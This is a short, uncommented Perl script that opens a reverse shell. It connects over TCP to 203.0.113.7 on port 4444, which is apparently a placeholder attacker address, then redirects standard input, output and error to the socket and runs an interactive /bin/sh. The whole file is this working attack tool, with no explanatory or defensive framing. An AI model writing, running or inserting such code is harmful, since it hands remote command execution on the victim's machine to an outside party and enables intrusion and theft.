#!/usr/bin/perl
use strict;
use Socket;
my $i = "203.0.113.7";
my $p = 4444;
socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
if (connect(S, sockaddr_in($p, inet_aton($i)))) {
  open(STDIN, ">&S");
  open(STDOUT, ">&S");
  open(STDERR, ">&S");
  exec("/bin/sh -i");
}
